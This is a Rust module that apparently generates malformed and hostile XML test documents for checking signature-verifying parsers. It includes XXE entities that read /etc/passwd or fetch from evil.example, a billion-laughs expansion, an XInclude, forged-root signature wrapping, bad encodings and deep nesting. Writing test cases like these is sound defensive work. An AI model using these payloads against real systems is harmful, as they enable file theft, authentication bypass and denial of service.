//! What is about the document as a whole: A044, A045, A049, A053 to A055, A100, A101, A108.

use super::Engine;
use super::forge::{Id, MALLORY, forged};
use super::tree::{Element, Node};

pub(super) fn apply(engine: &mut Engine) {
    doctypes(engine);
    names(engine);
    encodings(engine);
    roots(engine);
    depths(engine);
}

/// The document after this, without an XML declaration of its own.
fn behind(engine: &Engine, start: &str) -> Vec<u8> {
    let text = engine.original.trim_start_matches('\u{feff}').trim_start();
    let body = match text.strip_prefix("<?xml") {
        Some(rest) => rest.split_once("?>").map_or("", |(_, body)| body),
        None => text,
    };
    [start, body].concat().into_bytes()
}

fn doctypes(engine: &mut Engine) {
    let name = engine.tree.element(&engine.tree.root()).name.clone();
    let laughs: String = (1..10)
        .map(|n| {
            let reference = format!("&l{};", n - 1).repeat(10);
            format!("<!ENTITY l{n} \"{reference}\">")
        })
        .collect();
    let doctypes: [(&'static str, String); 14] = [
        ("A045", format!("<!DOCTYPE {name}>")),
        ("A045", format!("<!doctype {name}>")),
        ("A045", format!("<!DOCTYPE {name} [<!-- ]> <x> -->]>")),
        (
            "A045",
            format!("<!DOCTYPE {name} \">\" [<!ELEMENT x ANY>]>"),
        ),
        (
            "A045",
            format!("<!DOCTYPE {name} [<!ATTLIST {name} ID CDATA \"_evil\">]>"),
        ),
        (
            "A045",
            format!("<!DOCTYPE {name} [<!ATTLIST {name} x ID #IMPLIED>]>"),
        ),
        (
            "A045",
            format!("<!DOCTYPE {name} [<?x ]>?><!ENTITY e '<x>'>]>"),
        ),
        (
            "A049",
            format!("<!DOCTYPE {name} [<!ENTITY idp \"{MALLORY}\">]>"),
        ),
        (
            "A049",
            format!("<!DOCTYPE {name} [<!ENTITY lt \"&#38;#60;evil/>\">]>"),
        ),
        (
            "A100",
            format!("<!DOCTYPE {name} [<!ENTITY idp SYSTEM \"file:///etc/passwd\">]>"),
        ),
        (
            "A100",
            format!("<!DOCTYPE {name} [<!ENTITY % p SYSTEM \"http://evil.example/\">%p;]>"),
        ),
        (
            "A102",
            format!("<!DOCTYPE {name} SYSTEM \"http://evil.example/x.dtd\">"),
        ),
        (
            "A102",
            format!("<!DOCTYPE {name} PUBLIC \"x\" \"file:///dev/random\">"),
        ),
        (
            "A101",
            format!("<!DOCTYPE {name} [<!ENTITY l0 \"ha\">{laughs}<!ENTITY idp \"&l9;\">]>"),
        ),
    ];
    for (attack, doctype) in doctypes {
        let short: String = doctype.chars().take(70).collect();
        let octets = behind(engine, &doctype);
        engine.octets(attack, format!("{short} before"), octets);
        if let Some(leaf) = leaf(engine) {
            let mut tree = engine.tree.clone();
            tree.element_mut(&leaf).children.push(Node::text("&idp;"));
            let text = tree.render();
            let own = text.find("<?xml").and_then(|_| text.split_once("?>"));
            let body = own.map_or(text.as_str(), |(_, body)| body);
            engine.octets(
                attack,
                format!("{short}, used"),
                [&doctype, body].concat().into_bytes(),
            );
        }
        let root = [&engine.tree.root()[..], &[0][..]].concat();
        engine.edit(attack, format!("{short} inside"), |t| {
            t.insert(&root, Node::Markup(doctype.clone()));
        });
        engine.edit(attack, format!("{short} at the end"), |t| {
            t.nodes.push(Node::Markup(doctype));
        });
    }
    if let Some(leaf) = leaf(engine) {
        for reference in [
            "&idp;",
            "&nbsp;",
            "&",
            "&#x110000;",
            "&#0;",
            "&#xD800;",
            "&amp",
            "&#;",
        ] {
            engine.edit("A049", format!("{reference} without a declaration"), |t| {
                t.element_mut(&leaf).children.push(Node::text(reference));
            });
        }
    }
    engine.edit("A102", "an XInclude", |t| {
        let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"x.xml\"/>";
        let root = t.root();
        t.element_mut(&root)
            .children
            .push(Element::parse(include).into());
    });
}

/// The first element outside of a signature with nothing but text.
fn leaf(engine: &Engine) -> Option<Vec<usize>> {
    let outside = |path: &[usize]| !engine.signatures.iter().any(|s| path.starts_with(&s.at));
    let mut all = engine.elements.iter().map(|e| e.path.clone());
    all.find(|path| outside(path) && engine.tree.element(path).only_text().is_some())
}

/// Names that some parsers change when they write them again.
fn names(engine: &mut Engine) {
    let root = engine.tree.root();
    for attribute in [
        "::attr", ":attr", "attr:", "a:b:c", "xmlns:", ":xmlns", "xmlns::x", "1a", "a<b", "-a",
    ] {
        for value in ["x", "urn:x"] {
            engine.edit("A044", format!("an attribute {attribute}={value}"), |t| {
                t.element_mut(&root).set(attribute, value);
            });
        }
    }
    for name in [":x", "x:", "a:b:c", "x::y", "xmlns:x", "1x"] {
        engine.edit("A044", format!("an element {name}"), |t| {
            let mut element = Element::parse("<x/>");
            element.name = name.to_owned();
            t.element_mut(&root).children.push(element.into());
        });
    }
    let first = [&root[..], &[0][..]].concat();
    for markup in [
        "<![CDATA[]]>]]>",
        "]]>",
        "<!x>",
        "<!---->-->",
        "<!--->",
        "<!-->",
        "<!-- -- -->",
        "<!-- a --->",
        "<?xml version='1.0'?>",
        "<?XML x?>",
        "<![INCLUDE[<x/>]]>",
        "<!ENTITY x 'y'>",
        "</>",
        "< x/>",
        "<x / >",
        "<x a=b/>",
        "<x a/>",
        "<x a='<'/>",
        "<x a='1'b='2'/>",
    ] {
        engine.edit("A044", format!("{markup} inside"), |t| {
            t.insert(&first, Node::Markup(markup.to_owned()));
        });
        engine.edit("A044", format!("{markup} before"), |t| {
            t.insert(&root, Node::Markup(markup.to_owned()));
        });
    }
}

fn encodings(engine: &mut Engine) {
    for declaration in [
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
        "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
        "\u{feff}\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "\u{feff}<?xml version=\"1.0\" encoding=\"utf-8\"?>",
        "<?xml version=\"1.0\" encoding=\"EBCDIC-CP-US\"?>",
        "<?xml version=\"1.0\" encoding=\"\"?>",
        "<?xml encoding=\"UTF-8\"?>",
        "<?xml version=\"1.0\" standalone=\"no\" encoding=\"UTF-8\"?>",
        " <?xml version=\"1.0\"?>",
    ] {
        let octets = behind(engine, declaration);
        engine.octets("A053", format!("{declaration:?}"), octets);
    }
    let units: Vec<u16> = engine.original.encode_utf16().collect();
    for (what, mark, big) in [
        ("UTF-16BE with its mark", true, true),
        ("UTF-16LE with its mark", true, false),
        ("UTF-16BE", false, true),
        ("UTF-16LE", false, false),
    ] {
        let own = units.iter().skip_while(|u| **u == 0xfeff).copied();
        let all = mark.then_some(0xfeff).into_iter().chain(own);
        let octets = all.flat_map(|u| {
            if big {
                u.to_be_bytes()
            } else {
                u.to_le_bytes()
            }
        });
        engine.octets("A053", what, octets.collect());
    }
    // `<` in two octets, half a character, a surrogate.
    for bad in [
        &b"\xc0\xbc"[..],
        b"\xe9",
        b"\xed\xa0\x80",
        b"\xff\xfe",
        b"\xf8\x88\x80\x80\x80",
    ] {
        let at = engine.original.rfind("</").unwrap_or_default();
        let (start, end) = engine.original.as_bytes().split_at(at);
        engine.octets(
            "A053",
            format!("{bad:x?} in text"),
            [start, bad, end].concat(),
        );
    }
    for (what, declaration) in [
        ("1.1", "<?xml version=\"1.1\"?>"),
        ("1.1, UTF-8", "<?xml version='1.1' encoding='UTF-8'?>"),
        ("2.0", "<?xml version=\"2.0\"?>"),
        ("1.00", "<?xml version=\"1.00\"?>"),
    ] {
        let octets = behind(engine, declaration);
        engine.octets("A054", format!("version {what}"), octets);
    }
    let root = engine.tree.root();
    let name = engine.tree.element(&root).name.clone();
    for space in [
        '\u{85}', '\u{2028}', '\u{c}', '\u{a0}', '\u{b}', '\0', '\u{fffe}',
    ] {
        let (from, to) = (format!("<{name} "), format!("<{name}{space}"));
        let octets = engine.original.replacen(&from, &to, 1).into_bytes();
        engine.octets("A054", format!("{space:?} as white space in a tag"), octets);
        engine.edit("A054", format!("{space:?} as text"), |t| {
            t.element_mut(&root).children.push(Node::text(space));
        });
    }
}

fn roots(engine: &mut Engine) {
    let root = engine.tree.root();
    let own = engine.tree.element(&root).clone();
    for id in Id::BOTH {
        let evil = forged(&own, id);
        let word = id.word();
        engine.edit("A055", format!("forged root in front, {word}"), |t| {
            t.insert(&root, evil.clone());
        });
        engine.edit("A055", format!("forged root behind, {word}"), |t| {
            t.insert_after(&root, evil)
        });
    }
    let pieces = [
        "x",
        "&amp;",
        "<x/>",
        "<![CDATA[x]]>",
        "<?x?>",
        "<!-- x -->",
        "</x>",
        "<",
        "\0",
    ];
    for piece in pieces {
        let octets = [&engine.original, piece].concat().into_bytes();
        engine.octets("A055", format!("{piece:?} behind"), octets);
        let octets = [piece, &engine.original].concat().into_bytes();
        engine.octets("A055", format!("{piece:?} in front"), octets);
    }
    let twice = [engine.original.as_str(), &engine.original]
        .concat()
        .into_bytes();
    engine.octets("A055", "the document twice", twice);
    let half = engine.original.len() / 2;
    let octets = engine.original.as_bytes()[..half].to_vec();
    engine.octets("A055", "half of the document", octets);
}

fn depths(engine: &mut Engine) {
    let root = [&engine.tree.root()[..], &[0][..]].concat();
    for depth in [100, 5_000] {
        let nested = ["<x>".repeat(depth), "</x>".repeat(depth)].concat();
        engine.edit("A108", format!("{depth} levels inside"), |t| {
            t.insert(&root, Node::Markup(nested.clone()));
        });
        let octets = behind(engine, &"<x>".repeat(depth));
        engine.octets(
            "A108",
            format!("{depth} levels around"),
            [&octets[..], "</x>".repeat(depth).as_bytes()].concat(),
        );
    }
}
